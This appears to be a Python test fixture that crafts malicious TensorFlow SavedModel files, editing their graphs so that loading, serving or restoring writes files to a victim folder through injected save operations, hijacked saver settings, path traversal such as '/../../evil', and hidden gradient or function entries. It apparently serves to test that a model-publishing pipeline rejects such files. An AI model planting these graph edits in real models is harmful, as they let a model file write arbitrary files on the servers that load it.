"""Crafted versions whose graphs were edited after TensorFlow wrote them; see `crafted.py`."""

from collections.abc import Callable
from pathlib import Path
from typing import Any, TypeAlias

import tensorflow as tf
from tensorflow.core.protobuf.saved_model_pb2 import SavedModel

from tests.publishing.crafted import Attack, plain, save_in_signature, seal

# Takes the MetaGraph of a harmless version, and the folder of the victim.
Edit: TypeAlias = Callable[[Any, Path], None]


def edit(path: Path, change: Callable[[Any], None]) -> None:
    """Changes the MetaGraph of a SavedModel, and seals the version."""
    file = path / "saved_model.pb"
    model = SavedModel.FromString(file.read_bytes())
    change(model.meta_graphs[0])
    file.write_bytes(model.SerializeToString())
    seal(path)


def edited(change: Edit) -> Attack:
    def craft(path: Path, victim: Path) -> None:
        plain(path)
        edit(path, lambda meta: change(meta, victim))

    return craft


# --- parts of a graph ----------------------------------------------------------------------


def node(meta: Any, name: str) -> Any:
    """A node of the graph, by the name of one of its tensors."""
    name = name.partition(":")[0]
    return next(node for node in meta.graph_def.node if node.name == name)


def function(meta: Any, part: str) -> Any:
    """The only function with that part in its name."""
    (match,) = (f for f in meta.graph_def.library.function if part in f.signature.name)
    return match


def save_node(meta: Any) -> Any:
    return node(meta, meta.saver_def.save_tensor_name)


def add_constant(nodes: Any, name: str, *texts: str) -> str:
    """Adds a constant of strings to a graph or a function; returns its name."""
    shape = [len(texts)] if len(texts) != 1 or name.endswith("s") else []
    constant = nodes.add(name=name, op="Const")
    constant.attr["dtype"].type = tf.string.as_datatype_enum
    constant.attr["value"].tensor.CopyFrom(tf.make_tensor_proto(texts, tf.string, shape))
    return name


def add_save(nodes: Any, victim: Path, suffix: str = ":output:0") -> Any:
    """Adds an operation that writes a file to a graph or a function."""
    names = [add_constant(nodes, "evil_prefix", str(victim / "new"))]
    names += [
        add_constant(nodes, f"evil_{kind}s", text) for kind, text in (("name", "x"), ("slice", ""))
    ]
    value = nodes.add(name="evil_value", op="Const")
    value.attr["dtype"].type = tf.float32.as_datatype_enum
    value.attr["value"].tensor.CopyFrom(tf.make_tensor_proto(1.0))
    writer = nodes.add(
        name="evil", op="SaveV2", input=[name + suffix for name in (*names, "evil_value")]
    )
    writer.attr["dtypes"].list.type.append(tf.float32.as_datatype_enum)
    return writer


def call_to_saving(nodes: Any, meta: Any, suffix: str = ":output:0") -> Any:
    """Adds a call of the function that saves, with a file name of its own."""
    call = nodes.add(name="evil")
    call.CopyFrom(save_node(meta))
    call.name = "evil"
    call.input[0] = add_constant(nodes, "evil_prefix", "/tmp/evil") + suffix
    return call


# --- edits of a harmless version -------------------------------------------------------------


def save_in_restoring(meta: Any, victim: Path) -> None:
    """Loading by a server runs the function that restores."""
    restoring = function(meta, "traced_restore")
    add_save(restoring.node_def, victim)
    restoring.control_ret["evil"] = "evil"
    restoring.signature.control_output.append("evil")


def save_in_graph(meta: Any, victim: Path) -> None:
    add_save(meta.graph_def.node, victim, "")
    meta.signature_def["sample"].outputs["more"].name = "evil_value:0"


def save_in_unused_function(meta: Any, victim: Path) -> None:
    unused = meta.graph_def.library.function.add()
    unused.signature.name = "unused"
    add_save(unused.node_def, victim)


def call_saving_in_graph(meta: Any, victim: Path) -> None:
    call_to_saving(meta.graph_def.node, meta, "")


def call_saving_in_function(meta: Any, victim: Path) -> None:
    call_to_saving(function(meta, "signature_wrapper").node_def, meta)


def call_saving_by_name(meta: Any, victim: Path) -> None:
    """The older way to call a function: its name is the operation."""
    call = call_to_saving(function(meta, "signature_wrapper").node_def, meta)
    call.op = call.attr["f"].func.name


def call_saving_in_list(meta: Any, victim: Path) -> None:
    call = call_to_saving(function(meta, "signature_wrapper").node_def, meta)
    call.op = "Case"
    call.attr["branches"].list.func.add(name=call.attr["f"].func.name)
    del call.attr["f"]


def call_saving_in_attributes_of_a_function(meta: Any, victim: Path) -> None:
    call = call_to_saving(function(meta, "signature_wrapper").node_def, meta)
    name = call.attr["f"].func.name
    call.attr["f"].func.name = function(meta, "signature_wrapper").signature.name
    call.attr["f"].func.attr["inner"].func.name = name


def run_saving_by_signature(meta: Any, victim: Path) -> None:
    """A server runs the outputs of a signature in the graph, with inputs that a client sends."""
    signature = meta.signature_def["sample"]
    signature.inputs["path"].name = meta.saver_def.filename_tensor_name
    signature.outputs["path"].name = meta.saver_def.save_tensor_name


def run_saving_by_initialization(meta: Any, victim: Path) -> None:
    meta.collection_def["saved_model_main_op"].node_list.value[:] = [save_node(meta).name]


def run_saving_by_control_input(meta: Any, victim: Path) -> None:
    name = meta.signature_def["sample"].outputs["images"].name
    node(meta, name).input.append(f"^{save_node(meta).name}")


def run_saving_by_restoring(meta: Any, victim: Path) -> None:
    node(meta, meta.saver_def.restore_op_name).input.append(f"^{save_node(meta).name}")


def swap_saving_and_restoring(meta: Any, victim: Path) -> None:
    save = save_node(meta).name
    meta.saver_def.save_tensor_name = f"{meta.saver_def.restore_op_name}:0"
    meta.saver_def.restore_op_name = save


def restore_by_saving(meta: Any, victim: Path) -> None:
    meta.saver_def.restore_op_name = save_node(meta).name


def offer_saving_as_function(meta: Any, victim: Path) -> None:
    objects = meta.object_graph_def
    name = function(meta, "traced_save").signature.name
    objects.nodes.add().bare_concrete_function.concrete_function_name = name
    objects.nodes[0].children.add(node_id=len(objects.nodes) - 1, local_name="evil")


def offer_saving_as_concrete_function(meta: Any, victim: Path) -> None:
    name = function(meta, "traced_save").signature.name
    meta.object_graph_def.concrete_functions[name].SetInParent()


def offer_saving_as_polymorphic_function(meta: Any, victim: Path) -> None:
    offered = meta.object_graph_def.nodes.add().function
    offered.concrete_functions.append(function(meta, "traced_save").signature.name)


def make_saving_a_gradient(meta: Any, victim: Path) -> None:
    gradient = meta.graph_def.library.gradient.add()
    gradient.function_name = function(meta, "signature_wrapper").signature.name
    gradient.gradient_func = function(meta, "traced_save").signature.name


def make_saving_a_registered_gradient(meta: Any, victim: Path) -> None:
    gradient = meta.graph_def.library.registered_gradients.add()
    gradient.registered_op_type = "CustomGradient-1"
    gradient.gradient_func = function(meta, "traced_save").signature.name


def make_saving_an_implementation(meta: Any, victim: Path) -> None:
    """TensorFlow may call a function in place of another one of the same interface."""
    for part in ("traced_save", "signature_wrapper"):
        function(meta, part).attr["api_implements"].s = b"interface"


def saver_with_constant_filename(meta: Any, victim: Path) -> None:
    name = meta.saver_def.filename_tensor_name.partition(":")[0]
    meta.graph_def.node.remove(node(meta, name))
    add_constant(meta.graph_def.node, name, str(victim / "new"))


def saver_with_computed_filename(meta: Any, victim: Path) -> None:
    add_constant(meta.graph_def.node, "evil_prefix", str(victim / "new"))
    save_node(meta).input[0] = "evil_prefix"


def restoring_of_another_file(meta: Any, victim: Path) -> None:
    nodes = function(meta, "traced_restore").node_def
    add_constant(nodes, "evil_prefix", str(victim / "part"))
    next(node for node in nodes if node.op == "RestoreV2").input[0] = "evil_prefix:output:0"


def saving_to_another_file(meta: Any, victim: Path) -> None:
    nodes = function(meta, "traced_save").node_def
    add_constant(nodes, "evil_prefix", str(victim / "new"))
    next(node for node in nodes if node.op == "SaveV2").input[0] = "evil_prefix:output:0"


def saving_beside_its_file(meta: Any, victim: Path) -> None:
    """The file name that the loader passes, with `..` behind it."""
    for constant in function(meta, "traced_save").node_def:
        values = constant.attr["value"].tensor.string_val
        if constant.op == "Const" and list(values) == [b".part"]:
            values[0] = b"/../../evil"


def saving_with_separator(meta: Any, victim: Path) -> None:
    for join in function(meta, "traced_save").node_def:
        if join.op == "StringJoin":
            join.attr["separator"].s = b"/../evil"


def merging_into_another_file(meta: Any, victim: Path) -> None:
    nodes = function(meta, "traced_save").node_def
    add_constant(nodes, "evil_prefix", str(victim / "new"))
    merge = next(node for node in nodes if node.op == "MergeV2Checkpoints")
    merge.input[1] = "evil_prefix:output:0"


def saving_in_a_circle(meta: Any, victim: Path) -> None:
    nodes = function(meta, "traced_save").node_def
    next(node for node in nodes if node.op == "ShardedFilename").input[0] = (
        "ShardedFilename:filename:0"
    )


def two_functions_of_one_name(meta: Any, victim: Path) -> None:
    library = meta.graph_def.library.function
    library.add().CopyFrom(function(meta, "signature_wrapper"))


def two_operations_of_one_name(meta: Any, victim: Path) -> None:
    meta.graph_def.node.add().CopyFrom(save_node(meta))


# --- a second graph --------------------------------------------------------------------------


def second_graph(path: Path, victim: Path) -> None:
    save_in_signature(path, victim)
    file = path / "saved_model.pb"
    graph = SavedModel.FromString(file.read_bytes()).meta_graphs[0]
    plain_path = path.parent / "0"
    plain(plain_path)
    model = SavedModel.FromString((plain_path / "saved_model.pb").read_bytes())
    model.meta_graphs.add().CopyFrom(graph)
    file.write_bytes(model.SerializeToString())
    seal(path)


def other_form(path: Path, victim: Path) -> None:
    """A second file with the graph, in text."""
    save_in_signature(path, victim)
    model = SavedModel.FromString((path / "saved_model.pb").read_bytes())
    plain(path)
    (path / "saved_model.pbtxt").write_text(str(model))
    seal(path)


ATTACKS: dict[str, Attack] = {
    change.__name__: edited(change)
    for change in (
        save_in_restoring,
        save_in_graph,
        save_in_unused_function,
        call_saving_in_graph,
        call_saving_in_function,
        call_saving_by_name,
        call_saving_in_list,
        call_saving_in_attributes_of_a_function,
        run_saving_by_signature,
        run_saving_by_initialization,
        run_saving_by_control_input,
        run_saving_by_restoring,
        swap_saving_and_restoring,
        restore_by_saving,
        offer_saving_as_function,
        offer_saving_as_concrete_function,
        offer_saving_as_polymorphic_function,
        make_saving_a_gradient,
        make_saving_a_registered_gradient,
        make_saving_an_implementation,
        saver_with_constant_filename,
        saver_with_computed_filename,
        restoring_of_another_file,
        saving_to_another_file,
        saving_beside_its_file,
        saving_with_separator,
        merging_into_another_file,
        saving_in_a_circle,
        two_functions_of_one_name,
        two_operations_of_one_name,
    )
}
ATTACKS |= {"second_graph": second_graph, "other_form": other_form}
